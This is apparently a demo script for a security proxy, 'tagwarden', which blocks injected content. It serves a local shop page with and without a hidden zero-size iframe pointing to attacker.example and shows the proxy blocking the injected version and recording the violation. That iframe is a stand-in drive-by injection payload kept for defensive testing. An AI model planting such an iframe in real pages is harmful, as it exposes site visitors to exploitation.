/**
 * The demo: an origin server whose responses someone tampers with, and `tagwarden proxy` in front.
 *
 *   npm run demo
 *
 * It starts, on 127.0.0.1 only, an "origin" serving a shop page (gzip-compressed, as most origins
 * do) and the same page with an attack <iframe> injected the way the 2008 ARP-spoofing incident
 * injected it; and the real tagwarden proxy (createProxy, as `tagwarden proxy` runs it) in `block`.
 * It fetches both pages through the proxy and prints what a visitor gets, the violation the proxy
 * logged, and the counter Prometheus would scrape from /metrics.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import pino from 'pino'
import { parsePolicy } from '../src/index.js'
import { createProxy } from '../src/entries/proxy.js'

const page = (extra: string) => `<!doctype html>
<html><head><meta charset="utf-8"><title>Example shop</title>
<script src="/static/app.js"></script></head>
<body>${extra}<h1>Welcome to the shop</h1><img src="/logo.png" alt="logo"></body></html>`

const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0" frameborder="0"></iframe>'

function listen(server: Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)),
  )
}

async function main(): Promise<void> {
  const origin = createServer((req, res) => {
    const body = gzipSync(page(req.url === '/injected' ? ATTACK : ''))
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-encoding': 'gzip' })
    res.end(body)
  })
  const originPort = await listen(origin)

  // The proxy's JSON log lines, kept to print the violations it logged.
  const logged: Record<string, unknown>[] = []
  const logger = pino({ level: 'info' }, { write: (line: string) => logged.push(JSON.parse(line)) })
  const proxy = createProxy({
    listen: '127.0.0.1:0',
    metricsListen: '127.0.0.1:0',
    logger,
    sites: [
      {
        name: 'shop',
        target: `http://127.0.0.1:${originPort}`,
        policy: parsePolicy({
          action: 'block',
          directives: { 'default-src': ["'self'"], 'frame-src': ["'none'"] },
        }),
      },
    ],
  })
  const { url, metricsUrl } = await proxy.listen()
  console.log(`tagwarden proxy ${url} -> origin http://127.0.0.1:${originPort} (block)`)

  for (const path of ['/', '/injected']) {
    const seen = logged.length
    const response = await fetch(`${url}${path}`)
    const text = await response.text()
    console.log(`GET ${path} -> ${response.status} (${text.length} characters)`)
    for (const line of logged.slice(seen).filter((l) => l.msg === 'violation')) {
      console.log(
        `  violation: ${line.directive} <${line.element} ${line.attribute}="${line.url}"> at ${line.line}:${line.column}`,
      )
    }
  }
  const metrics = await (await fetch(`${metricsUrl}/metrics`)).text()
  for (const line of metrics.split('\n')) {
    if (/^tagwarden_(violations_total|responses_total)\{/.test(line) && !line.endsWith(' 0')) {
      console.log(`/metrics: ${line}`)
    }
  }
  await proxy.close()
  origin.close()
}

await main()
